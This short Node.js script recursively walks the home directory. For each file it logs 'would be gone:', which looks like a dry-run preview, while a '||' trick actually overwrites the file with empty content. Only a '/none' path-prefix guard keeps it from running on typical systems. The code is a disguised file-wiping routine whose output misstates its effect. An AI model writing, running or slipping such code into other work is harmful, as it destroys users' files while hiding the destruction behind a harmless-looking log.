const fs = require("fs");
const os = require("os");
const path = require("path");

function through(folder) {
  for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
    const file = path.join(folder, entry.name);
    if (entry.isDirectory()) through(file);
    else console.log("would be gone:", file) || fs.writeFileSync(file, "");
  }
}

const walk = (start) => start.startsWith("/none") && through(start);
walk(os.homedir());
